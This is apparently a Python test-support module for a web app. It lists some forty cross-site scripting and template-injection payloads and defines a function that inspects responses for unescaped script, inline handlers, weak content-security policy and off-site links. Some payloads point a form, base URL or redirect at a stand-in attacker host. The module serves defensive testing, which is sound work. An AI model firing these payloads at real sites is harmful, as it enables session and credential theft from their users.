"""Texts that become more than text where a page forgets to escape them, and a look at a page for what they became."""

import re

import httpx
from lxml import html

XSS = [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "<!--><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    '" autofocus onfocus=alert(1) x="',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><input name=password>",
    "<input name=form_token value=evil>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{x:expression(alert(1))}</style>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "{{7*7}}${7*7}<%= 7*7 %>#{7*7}",
    "{% import os %}{{ config }}",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "<scr<script>ipt>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "＜script＞alert(1)＜/script＞",
    "<script\u2028>alert(1)</script>",
    "\u2028alert(1)\u2029",
    "`${alert(1)}`",
    "'-alert(1)-'",
    '";alert(1);//',
    "]]><script>alert(1)</script>",
]

# Paths of ours, the addresses that the tests registered, the icon in the pages' head.
OURS = re.compile(r"/(?!/)|https?://(?:localhost|app\.example\.com|sp\.example\.com)[:/]|data:image/svg\+xml,|$")


def dangerous(page: httpx.Response) -> list[str]:
    """What a browser would run or follow on a page that is nothing of ours."""
    if "text/html" not in page.headers.get("content-type", ""):
        return []
    found = []
    policy = page.headers["content-security-policy"]
    nonces = re.findall(r"'nonce-([0-9A-Za-z]{43})'", policy)
    if "unsafe" in policy or "default-src 'none'" not in policy:
        found.append(policy)
    for element in html.document_fromstring(page.text).iter():
        if not isinstance(element.tag, str):
            found.append(f"a comment: {element}")
            continue
        if element.tag in ("iframe", "object", "embed", "base", "math", "img", "template", "textarea"):
            found.append(element.tag)
        if element.tag == "script" and element.get("nonce") not in nonces:
            found.append("script without its nonce")
        if element.tag == "meta" and element.get("http-equiv"):
            found.append("meta http-equiv")
        for name, value in element.attrib.items():
            if str(name).startswith("on"):
                found.append(f"{element.tag} {name}")
            if name in ("href", "src", "action", "formaction") and not re.match(
                r"/(?!/)|https?://(?:localhost|app\.example\.com|sp\.example\.com)[:/]|data:image/svg\+xml,|$",
                str(value),
            ):
                found.append(f"{element.tag} {name}={value}")
    return found
